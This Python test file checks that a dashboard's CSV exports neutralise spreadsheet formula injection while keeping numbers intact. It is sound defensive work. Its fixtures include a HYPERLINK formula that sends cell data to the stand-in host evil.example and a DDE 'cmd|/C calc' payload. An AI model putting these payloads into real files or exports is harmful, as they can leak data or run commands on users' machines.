"""Every CSV export neutralises spreadsheet formulas and keeps numbers as numbers."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import json
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import select, update

from db import adjustments as adj
from db import exports, ledger, pilots, readviews
from db.ledger import OrderIn
from db.models import Member, PilotMember
from pages import audit as views
from pages.adjustments_review import adjustments_csv
from tests.support.factories import T0, member, publish, staff
from tests.support.pilots import START, _create, _orders, _program, _start

ROOT = Path(__file__).resolve().parents[1]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1, "open, me")'

# (cell, what the export writes)
CASES = [
    (EVIL, "'" + EVIL),
    ("+1-555-0100", "'+1-555-0100"),
    ("-2+3", "'-2+3"),
    ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\uff1dHYPERLINK(1)", "'\uff1dHYPERLINK(1)"),
    ("-", "'-"),
    ("- 5 RUB", "'- 5 RUB"),
    ("-5", "-5"),
    ("-1,234.50", "-1,234.50"),
    ("+12.5 %", "+12.5 %"),
    ("-3.2e-05", "-3.2e-05"),
    ("Gold", "Gold"),
    ("a=b", "a=b"),
    ("'=already", "'=already"),
    ("", ""),
    (-5, -5),
    (-2.5, -2.5),
    (None, None),
]


@pytest.mark.parametrize(("cell", "expected"), CASES)
def test_neutralise(cell, expected):
    assert exports.neutralise(cell) == expected


def test_the_grids_client_side_export_applies_the_same_rule():
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed: the grid's JavaScript is not run here")
    script = (
        "global.window = {};\n"
        + (ROOT / "assets" / "dashAgGridFunctions.js").read_text()
        + "\nconst cases = JSON.parse(require('fs').readFileSync(0, 'utf8'));\n"
        "process.stdout.write(JSON.stringify(cases.map("
        "v => window.dashAgGridFunctions.csvSafeCell({value: v}))));\n"
    )
    cells = [c for c, _ in CASES]
    out = subprocess.run([node, "-e", script], input=json.dumps(cells), capture_output=True,
                         text=True, check=True, timeout=30)
    assert json.loads(out.stdout) == [e for _, e in CASES]


def _grid_calls() -> list[tuple[str, ast.Call]]:
    calls = []
    for folder in ("dashboard", "pages", "callbacks"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            for node in ast.walk(ast.parse(path.read_text(), str(path))):
                if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "AgGrid":
                    calls.append((f"{path.relative_to(ROOT)}:{node.lineno}", node))
    return calls


def test_every_grid_exports_through_the_formula_guard():
    calls = _grid_calls()
    assert len(calls) >= 3
    for where, call in calls:
        kw = {k.arg: k.value for k in call.keywords}
        assert "csvExportParams" in kw, f"{where}: AgGrid without csvExportParams"
        assert ast.unparse(kw["csvExportParams"]).endswith("CSV_EXPORT_PARAMS"), where
    from dashboard.shell import CSV_EXPORT_PARAMS

    assert CSV_EXPORT_PARAMS["processCellCallback"] == {"function": "csvSafeCell(params)"}


def test_the_grid_functions_are_served_with_the_pages(client, web_app):
    from tests.support.web import login

    assert login(client, "sue").status_code == 302  # a supervisor of benchmarks/small_program.py
    page = client.get("/overview").get_data(as_text=True)
    assert "/assets/dashAgGridFunctions.js" in page
    assert client.get("/assets/dashAgGridFunctions.js").status_code == 200


def test_audit_export(db):
    row = readviews.AuditRow(1, dt.datetime(2025, 1, 1), EVIL, "staff.create", "staff_user",
                             "-1", "", "", "@cmd")
    rows = list(csv.DictReader(io.StringIO(views.audit_csv([row]))))
    assert rows[0]["actor"] == "'" + EVIL and rows[0]["detail"] == "'@cmd"
    assert rows[0]["object_id"] == "-1"


def test_adjustments_export(db):
    with db.begin() as s:
        publish(s)
        a = member(s, "A", name=EVIL)
        sam = staff(s, "sam", "support")
    ledger.post_order(db, OrderIn("o1", "A", T0 + dt.timedelta(days=1), 1000_00))  # 10 points
    adj.request_adjustment(db, sam, a, -5, "wrong_accrual", "-2+3", ticket_ref="@T-1")
    with db.read() as s:
        rows = list(csv.DictReader(io.StringIO(adjustments_csv(adj.list_adjustments(s)))))
    assert rows[0]["member_name"] == "'" + EVIL
    assert (rows[0]["comment"], rows[0]["ticket_ref"]) == ("'-2+3", "'@T-1")
    assert rows[0]["points"] == "-5"


def test_pilot_results_export(db):
    with db.begin() as s:
        sup, draft, ids = _program(s, 4)
        s.execute(update(Member).values(tier="Bronze"))
        made = _create(s, sup, draft, name=EVIL, member_ids=ids, pilot_share=50, seed=2,
                       start_at=START, planned_end_at=START + dt.timedelta(days=10))
        _start(s, sup, made.pilot_id, now=START)
        grp = dict(s.execute(select(PilotMember.member_id, PilotMember.grp)).all())
        ext = dict(s.execute(select(Member.id, Member.external_id)).all())
        p1, p2 = sorted(m for m in ids if grp[m] == "pilot")
        c1, c2 = sorted(m for m in ids if grp[m] == "control")
        pre, dur = START - dt.timedelta(days=5), START + dt.timedelta(days=5)
        # the pilot group spends less during the pilot: a negative lift
        _orders(s, ext, [(p1, pre, 30_000), (p2, pre, 30_000), (c1, pre, 10_000),
                         (c2, pre, 10_000), (p1, dur, 10_000), (c1, dur, 30_000),
                         (c2, dur, 20_000)])
    with db.read() as s:
        r = pilots.pilot_results(s, made.pilot_id, START + dt.timedelta(days=10), n_boot=200)
    text = pilots.results_csv(r)
    lines = text.splitlines()
    comment = next(csv.reader([lines[0]]))
    assert len(comment) == 1 and comment[0].startswith("# pilot")  # one cell, not split
    table = pd.read_csv(io.StringIO(text), skiprows=1, nrows=len(r.metrics) * 3,
                        dtype={"pilot": str})
    assert set(table["pilot"]) == {"'" + EVIL}
    spend = table[(table["metric"] == "spend_per_member") & (table["method"] == "welch")]
    assert spend["lift"].dtype.kind == "f" and spend["lift"].iloc[0] < 0
    raw = next(csv.DictReader(io.StringIO("\n".join(lines[1:]))))
    for cell in raw.values():  # nothing else a spreadsheet would run
        assert exports.neutralise(cell) == cell
